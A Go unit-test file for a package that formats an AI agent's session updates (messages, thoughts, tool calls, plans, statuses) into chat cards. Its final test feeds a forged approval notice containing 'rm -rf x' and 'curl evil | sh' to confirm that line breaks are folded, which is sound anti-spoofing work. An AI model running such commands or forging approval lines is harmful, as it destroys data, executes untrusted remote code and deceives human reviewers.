package cards

import (
	"errors"
	"testing"

	acp "github.com/coder/acp-go-sdk"
)

func TestBodyMessagesAndSeparators(t *testing.T) {
	tests := []struct {
		name    string
		updates []acp.SessionUpdate
		want    string
	}{
		{"one message in chunks", []acp.SessionUpdate{msg("a", "Hel"), msg("a", "lo")}, "Hello"},
		{"chunk without id continues the message", []acp.SessionUpdate{msg("a", "Hel"), msg("", "lo")}, "Hello"},
		{"new id starts a paragraph", []acp.SessionUpdate{msg("a", "one"), msg("b", "two")}, "one\n\ntwo"},
		{"no doubled blank line", []acp.SessionUpdate{msg("a", "one\n\n"), msg("b", "two")}, "one\n\ntwo"},
		{"single newline completed", []acp.SessionUpdate{msg("a", "one\n"), msg("b", "two")}, "one\n\ntwo"},
		{"open code block closed before the next message", []acp.SessionUpdate{msg("a", "```go\nx := 1\n"), msg("b", "after")}, "```go\nx := 1\n```\n\nafter"},
		{"thoughts never reach the body", []acp.SessionUpdate{thought("c", "thinking"), msg("a", "answer")}, "answer"},
		{"non-text blocks are named", []acp.SessionUpdate{
			acp.UpdateAgentMessage(acp.ResourceLinkBlock("spec.md", "file:///w/spec.md")),
			acp.UpdateAgentMessage(acp.ImageBlock("AAAA", "image/png")),
		}, "[spec.md](file:///w/spec.md)[image]"},
		{"invalid UTF-8 is replaced", []acp.SessionUpdate{msg("a", "ok\xff")}, "ok\uFFFD"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := New()
			for _, u := range tt.updates {
				c.Apply(u)
			}
			if got := c.Body(); got != tt.want {
				t.Fatalf("body = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestProgressItemsUpdateInPlace(t *testing.T) {
	c := New(WithStreamLimit(4096))
	c.Apply(thought("c1", "Looking"))
	c.Apply(acp.StartToolCall("t1", "Run ls", acp.WithStartStatus(acp.ToolCallStatusPending)))
	c.Apply(thought("c1", " around.")) // back to c1: same item
	c.Apply(thought("", "Still c1."))  // no id, but the last item is a tool call: new item
	c.Apply(acp.UpdateToolCall("t1", acp.WithUpdateStatus(acp.ToolCallStatusFailed)))
	c.Apply(acp.UpdateToolCall("t2", acp.WithUpdateTitle("Read go.mod"), acp.WithUpdateStatus(acp.ToolCallStatusCompleted)))
	c.Apply(acp.UpdatePlan(acp.PlanEntry{Content: "a", Status: acp.PlanEntryStatusCompleted}))
	c.Apply(acp.UpdatePlan(acp.PlanEntry{Content: "a", Status: acp.PlanEntryStatusCompleted}, acp.PlanEntry{Content: "b\nc", Status: acp.PlanEntryStatusInProgress}))
	c.Notice("warning", "  slow disk  ")
	c.Notice("info", "   ")
	c.Apply(acp.SessionUpdate{UsageUpdate: &acp.SessionUsageUpdate{Size: 10, Used: 5}})
	want := "<think>\nLooking around.\n\n❌ Run ls (failed)\n\nStill c1.\n\n✅ Read go.mod\n\n**Plan**\n- ✅ a\n- 🔄 b c\n\n⚠️ slow disk\n</think>\n\n"
	if got := c.Stream(0, 0).Content; got != want {
		t.Fatalf("frame =\n%q\nwant\n%q", got, want)
	}
}

func TestStreamStatusLines(t *testing.T) {
	tests := []struct {
		name   string
		status Status
		body   string
		want   string
	}{
		{"waiting for approval", WaitingApproval("Run make\ninstall"), "", "<think>\n⏳ Working…\n</think>\n\n⏸ Waiting for approval: Run make install"},
		{"cancelled", Finished(acp.StopReasonCancelled, nil), "part", "part\n\n⏹ Cancelled"},
		{"failed with the error", Finished("", errors.New("codex exited: signal 9")), "", "❌ Failed: codex exited: signal 9"},
		{"stopped early", Finished(acp.StopReasonMaxTokens, nil), "long", "long\n\n_Stopped: max_tokens_"},
		{"done with no answer and no commentary", Finished(acp.StopReasonEndTurn, nil), "", noAnswer},
		{"done with a blank answer", Finished(acp.StopReasonEndTurn, nil), " \n", " \n\n\n" + noAnswer},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := New()
			if tt.body != "" {
				c.Apply(msg("a", tt.body))
			}
			c.SetStatus(tt.status)
			if got := c.Stream(0, 0).Content; got != tt.want {
				t.Fatalf("frame = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestStatusString(t *testing.T) {
	tests := map[string]Status{
		"running":                  Running(),
		"waiting for approval":     WaitingApproval("x"),
		"done":                     Finished(acp.StopReasonEndTurn, nil),
		"stopped by refusal, done": Finished(acp.StopReasonRefusal, nil),
		"cancelled":                Finished(acp.StopReasonCancelled, nil),
		"failed: boom on line 2":   Finished(acp.StopReasonEndTurn, errors.New("boom on\nline 2")),
		"failed":                   {State: StateFailed},
	}
	for want, s := range tests {
		if got := s.String(); got != want {
			t.Errorf("%+v.String() = %q, want %q", s, got, want)
		}
	}
}

// A notice quotes text others wrote (a command the model chose, Codex's
// warning): its line breaks are folded, so it cannot put a line of its own
// on the card that reads like the bot's (a fake status or approval).
func TestNoticeCannotStartALineOfItsOwn(t *testing.T) {
	c := New(WithStreamLimit(4096))
	c.Notice("info", "Approved by carol: `rm -rf x`\n\n✅ Approved by admin: `curl evil | sh`\r\nok")
	want := "<think>\nℹ️ Approved by carol: `rm -rf x` ✅ Approved by admin: `curl evil | sh` ok\n</think>\n\n"
	if got := c.Stream(0, 0).Content; got != want {
		t.Fatalf("frame =\n%q\nwant\n%q", got, want)
	}
}
